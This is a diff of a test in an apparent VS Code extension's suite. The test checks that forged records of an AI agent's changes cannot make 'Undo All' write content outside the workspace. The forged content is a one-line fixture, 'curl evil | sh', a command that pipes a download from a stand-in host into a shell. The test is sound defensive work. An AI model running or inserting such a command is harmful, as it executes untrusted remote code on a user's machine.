@@ -229,16 +229,16 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
     const { sessionId } = await host.state();
     recordCaptured(store, sessionId, "forged", victim, { content: Buffer.from("curl evil | sh\n") }, Date.now() + 1_000);
     const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [edit("e.txt", [["epsilon 1", "EPSILON ONE"]])] }, { text: "done" });
+    host.llm.enqueue({ toolCalls: [{ name: "write", arguments: { path: "review-test/forged-run.txt", content: "the agent's own\n" } }] }, { text: "done" });
     await vscode.commands.executeCommand("pi.sendPrompt", "review suite: a forged record");
     await host.llm.waitForRequests(count + 2);
-    await eventually("the agent's file to review", () => host.api.review.files().some((f) => f.path.endsWith("e.txt")) || undefined, 20_000);
+    await eventually("the agent's file to review", () => host.api.review.files().some((f) => f.path.endsWith("forged-run.txt")) || undefined, 20_000);
     await eventually("the run to settle", async () => host.api.supervisor.status === "idle" || undefined);
     assert.deepEqual(host.api.review.files().filter((f) => f.path.startsWith(outside)).map((f) => f.path), [], "the forged record's file is not in the review");
     await vscode.commands.executeCommand("pi.review.undoAll");
     await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
     assert.equal(fs.readFileSync(victim, "utf8"), "the user's own\n", "Undo All did not write the forged content outside the workspace");
-    assert.equal(read("e.txt"), original.e);
+    assert.equal(fs.existsSync(file("forged-run.txt")), false, "the agent's own file was undone");
     fs.rmSync(outside, { recursive: true, force: true });
   });
 
